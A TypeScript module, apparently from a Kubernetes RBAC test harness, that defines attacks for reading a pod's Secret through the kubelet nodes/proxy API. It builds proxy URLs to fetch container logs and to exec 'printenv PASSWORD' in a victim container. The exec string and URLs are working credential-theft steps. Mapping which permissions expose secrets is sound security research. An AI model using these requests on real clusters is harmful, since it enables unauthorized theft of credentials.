import type { Attack } from "./attack.ts";
import { runVictim, stream, VICTIM } from "./streams.ts";
import type { Stage } from "./stage.ts";

/** The API of the kubelet behind the API server, for the victim's container. */
function kubelet({ machine, namespace }: Stage, what: string): string {
  return `/api/v1/nodes/${machine.node}/proxy/${what}/${namespace}/${VICTIM}/main`;
}

const EXEC = "?command=printenv&command=PASSWORD&output=1";

export const attacks: Attack[] = [
  {
    edge: "nodes-proxy",
    how: "get: the log of a pod that has printed the Secret",
    rights: (stage) => [stage.everywhere("get", "nodes/proxy", stage.machine.node)],
    arrange: (stage) => runVictim(stage),
    attack: async (stage) => String(await stage.send("GET", kubelet(stage, "containerLogs"))),
  },
  ...["GET", "POST"].map((method): Attack => {
    const verb = method === "GET" ? "get" : "create";
    return {
      edge: "nodes-proxy",
      how: `${verb}: a command in a container that has the Secret`,
      rights: (stage) => [stage.everywhere(verb, "nodes/proxy", stage.machine.node)],
      arrange: (stage) => runVictim(stage),
      attack: (stage) => stream(stage, method, kubelet(stage, "exec") + EXEC),
    };
  }),
];
